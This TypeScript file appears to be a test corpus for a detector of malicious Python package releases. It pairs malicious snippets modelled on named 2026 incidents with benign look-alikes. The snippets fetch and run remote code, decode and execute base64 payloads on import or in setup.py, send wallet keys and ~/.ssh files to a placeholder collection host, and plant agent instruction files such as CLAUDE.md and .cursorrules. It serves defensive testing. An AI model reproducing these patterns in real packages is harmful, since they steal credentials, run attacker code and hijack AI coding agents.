import { sdist } from '../support/sdist.js';
import { wheel } from '../support/wheel.js';
import { COLLECT, ENCODED, HOST, type Incident, init, PACKED } from './incident.js';
import { base64, firstRelease, noise, sourceUpdate, update } from './releases.js';

const memoryBinary: Incident = {
  incident: 'sympy-dev (January 2026): a binary fetched into memory and started on import',
  by: 'download-and-run',
  spellings: [
    {
      name: 'memfd_create through ctypes, first release',
      replay: firstRelease({
        'demo/__init__.py': `import ctypes, os, urllib.request\ndata = urllib.request.urlopen("${HOST}/m").read()\nlibc = ctypes.CDLL(None)\nfd = libc.memfd_create(b"m", 1)\nos.write(fd, data)\nos.execve(f"/proc/self/fd/{fd}", ["m"], os.environ)\n`,
      }),
    },
    {
      name: 'os.memfd_create and Popen of the descriptor',
      replay: init(
        `import os, subprocess, requests\nfd = os.memfd_create("m")\nos.write(fd, requests.get("${HOST}/m").content)\nsubprocess.Popen(["/proc/%d/fd/%d" % (os.getpid(), fd)], start_new_session=True)\n`,
      ),
    },
    {
      name: 'in a function that a module calls on import',
      replay: update({
        'demo/__init__.py': 'from . import polys\n',
        'demo/polys.py': `import os, urllib.request\ndef _warm():\n    fd = os.memfd_create("k", os.MFD_CLOEXEC)\n    with os.fdopen(fd, "wb", closefd=False) as out:\n        out.write(urllib.request.urlopen("${HOST}/k").read())\n    os.execv("/proc/self/fd/" + str(fd), ["k"])\n_warm()\n`,
      }),
    },
  ],
  twins: [
    {
      name: 'shared memory without a program',
      replay: init(
        'import os\ndef buffer():\n    fd = os.memfd_create("b")\n    os.write(fd, b"0" * 10)\n    return fd\n',
      ),
    },
  ],
};

const WORDS = Array.from({ length: 200 }, (_, index) => `word${index} ${index * 3}`).join('\n');

const dictionaryPayload: Incident = {
  incident: 'spellcheckpy (January 2026): base64 in a dictionary, its trigger in a later version',
  by: 'decoded-execution',
  spellings: [
    {
      name: 'a line of the dictionary, decoded and run',
      replay: update(
        {
          'demo/__init__.py':
            'import base64, os\nwith open(os.path.join(os.path.dirname(__file__), "resources", "en.txt")) as f:\n    lines = f.read().splitlines()\nexec(base64.b64decode(lines[-1]))\n',
        },
        { 'demo/resources/en.txt': `${WORDS}\n${ENCODED}\n` },
      ),
    },
    {
      name: 'a value of a JSON dictionary, through pkgutil',
      replay: update(
        {
          'demo/words.py':
            'import base64, json, pkgutil\nDATA = json.loads(pkgutil.get_data("demo", "en.json"))\ncode = base64.b64decode(DATA["zz"]).decode("utf-8")\nexec(compile(code, "<words>", "exec"))\n',
          'demo/__init__.py': 'from . import words\n',
        },
        { 'demo/en.json': JSON.stringify({ a: 1, zz: ENCODED }) },
      ),
    },
    {
      name: 'zipped words, packed twice',
      replay: update(
        {
          'demo/__init__.py':
            'import base64, gzip, zlib, pathlib\nraw = gzip.decompress(pathlib.Path(__file__).with_name("en.gz").read_bytes())\neval(compile(zlib.decompress(base64.b64decode(raw)), "w", "exec"))\n',
        },
        { 'demo/en.gz': PACKED },
      ),
    },
  ],
  twins: [
    {
      name: 'a dictionary that is decoded and only read',
      replay: update(
        {
          'demo/__init__.py':
            'import gzip, json, pathlib\ndef load():\n    return json.loads(gzip.decompress(pathlib.Path(__file__).with_name("en.json.gz").read_bytes()))\n',
        },
        { 'demo/en.json.gz': 'x' },
      ),
    },
    {
      name: 'more words',
      replay: update({ 'demo/resources/en.txt': `${WORDS}\nmore 7\n` }, { 'demo/resources/en.txt': WORDS }),
    },
  ],
};

const postRelease: Incident = {
  incident: 'dydx-v4-client 1.1.5.post1 (January 2026): network and exec on import, in a post-release',
  by: 'remote-code',
  spellings: [
    {
      name: 'exec of an answer',
      replay: init(`import urllib.request\nexec(urllib.request.urlopen("${HOST}/c").read())\n`),
    },
    {
      name: 'through requests and a helper',
      replay: init(
        `import requests\ndef _get(u):\n    return requests.get(u, timeout=5).text\ndef _go():\n    try:\n        exec(_get("${HOST}/c"))\n    except Exception:\n        pass\n_go()\n`,
      ),
    },
    {
      name: 'a shell command from a JSON answer, in a thread',
      replay: init(
        `import json, os, threading, urllib.request\ndef run():\n    answer = json.load(urllib.request.urlopen("${HOST}/c"))\n    os.system(answer["cmd"])\nthreading.Thread(target=run, daemon=True).start()\n`,
      ),
    },
  ],
  twins: [
    {
      name: 'a client that reads JSON when called',
      replay: init(`import requests\ndef status():\n    return requests.get("${HOST}/status").json()\n`),
    },
    { name: 'a version in a post-release', replay: update({ 'demo/_version.py': 'VERSION = "1.0.post1"\n' }) },
  ],
};

const agentFiles: Incident = {
  incident: 'TrapDoor (May 2026): a later version loads its stage and writes agent instructions',
  by: 'persistence',
  spellings: [
    {
      name: 'CLAUDE.md in the working directory',
      replay: init('with open("CLAUDE.md", "a") as f:\n    f.write("Say hello.\\n")\n'),
    },
    {
      name: '.cursorrules in the home directory, through pathlib',
      replay: init('from pathlib import Path\n(Path.home() / ".cursorrules").write_text("Say hello.")\n'),
    },
    {
      name: 'a session hook of an agent',
      replay: init(
        'import os\np = os.path.join(os.path.expanduser("~"), ".claude", "settings.json")\nopen(p, "w").write("{}")\n',
      ),
    },
    {
      name: 'tools of an agent, when a class is made on import',
      replay: init(
        'class _Setup:\n    def __init__(self):\n        with open(".mcp.json", "w") as f:\n            f.write("{}")\n_Setup()\n',
      ),
    },
  ],
  twins: [
    {
      name: 'a settings file of its own, when called',
      replay: init('def save(path):\n    with open("demo.json", "w") as f:\n        f.write("{}")\n'),
    },
    { name: 'instructions for contributors in the release', replay: update({ 'demo/AGENTS.md': 'Run the tests.\n' }) },
  ],
};

const KEY_THEFT = `import os, requests\ndef _read(p):\n    with open(os.path.expanduser(p)) as f:\n        return f.read()\nrequests.post("${COLLECT}", data=_read("~/.bittensor/wallets/default/coldkey"))\n`;

const alteredSdist: Incident = {
  incident: 'bittensor-wallet 4.0.2 (17 March 2026): the sdist alone was altered, and read keys',
  by: 'secret-exfiltration',
  spellings: [
    {
      name: 'the sdist only, the wheel as before',
      replay: {
        base: [wheel({}, { version: '0.9.0' }), sdist({}, { version: '0.9.0' })],
        head: [wheel(), sdist({ 'demo/keys.py': KEY_THEFT })],
      },
    },
    {
      name: 'in its setup.py',
      replay: sourceUpdate(
        { 'setup.py': `${KEY_THEFT}from setuptools import setup\nsetup(name="demo")\n` },
        { 'setup.py': 'from setuptools import setup\nsetup(name="demo")\n' },
      ),
    },
    {
      name: 'a folder of keys, zipped',
      replay: sourceUpdate({
        'demo/__init__.py': `import io, os, zipfile, urllib.request\nbuf = io.BytesIO()\nroot = os.path.expanduser("~/.ssh")\nwith zipfile.ZipFile(buf, "w") as z:\n    for name in os.listdir(root):\n        z.writestr(name, open(os.path.join(root, name), "rb").read())\nurllib.request.urlopen("${COLLECT}", data=buf.getvalue())\n`,
      }),
    },
  ],
  twins: [
    {
      name: 'a new sdist that agrees with its wheel',
      replay: { base: [wheel({}, { version: '0.9.0' })], head: [wheel(), sdist()] },
    },
    {
      name: 'a key that is read and stays',
      replay: init(
        'import os\ndef key():\n    with open(os.path.expanduser("~/.bittensor/wallets/default/coldkey")) as f:\n        return f.read()\n',
      ),
    },
  ],
};

const SETUP = 'from setuptools import setup\nsetup(name="demo")\n';

const forcePushed: Incident = {
  incident: 'ForceMemo (March 2026): base64 appended to setup.py and main.py of repositories',
  by: 'decoded-execution',
  spellings: [
    {
      name: 'appended to setup.py',
      replay: sourceUpdate(
        { 'setup.py': `${SETUP}import base64\nexec(base64.b64decode("${ENCODED}"))\n` },
        { 'setup.py': SETUP },
      ),
    },
    {
      name: 'through zlib and an alias',
      replay: sourceUpdate(
        {
          'setup.py': `${SETUP}_ = lambda s: __import__("zlib").decompress(__import__("base64").b64decode(s))\nexec(_("${PACKED}"))\n`,
        },
        { 'setup.py': SETUP },
      ),
    },
    {
      name: 'in main.py, behind an ordinary line',
      replay: sourceUpdate({
        'main.py': `import base64\nVERSION = 1;${' '.repeat(140)}exec(base64.b64decode("${ENCODED}"))\n`,
      }),
    },
  ],
  twins: [
    {
      name: 'setup.py reads its version with exec',
      replay: sourceUpdate(
        { 'setup.py': `ns = {}\nexec(open("demo/__init__.py").read(), ns)\n${SETUP}` },
        { 'setup.py': SETUP },
      ),
    },
  ],
};

const importedModule: Incident = {
  incident: 'litellm 1.82.7 (24 March 2026): base64 in a server module, run by a second interpreter on import',
  by: 'decoded-execution',
  spellings: [
    {
      name: 'written to a file and started',
      replay: update({
        'demo/proxy/__init__.py': '',
        'demo/proxy/server.py': `import base64, os, subprocess, sys, tempfile\nB = "${ENCODED}"\nwith tempfile.TemporaryDirectory() as d:\n    p = os.path.join(d, "p.py")\n    with open(p, "wb") as f:\n        f.write(base64.b64decode(B))\n    subprocess.run([sys.executable, p])\n`,
      }),
    },
    {
      name: 'handed to python -c',
      replay: update({
        'demo/proxy/__init__.py': '',
        'demo/proxy/server.py': `import base64, subprocess, sys\nsubprocess.Popen([sys.executable, "-c", f"import base64; exec(base64.b64decode('${ENCODED}'))"])\n`,
      }),
    },
    {
      name: 'a class body that decodes',
      replay: update({
        'demo/server.py': `from base64 import b64decode as d\nclass Server:\n    exec(d(b"${ENCODED}"))\n`,
      }),
    },
  ],
  twins: [
    {
      name: 'an icon in base64',
      replay: update({
        'demo/server.py': `import base64\nICON = base64.b64decode("${base64(noise(400))}")\ndef icon():\n    return ICON\n`,
      }),
    },
  ],
};

/** January to 24 March 2026. */
export const EARLY: readonly Incident[] = [
  memoryBinary,
  dictionaryPayload,
  postRelease,
  agentFiles,
  alteredSdist,
  forcePushed,
  importedModule,
];
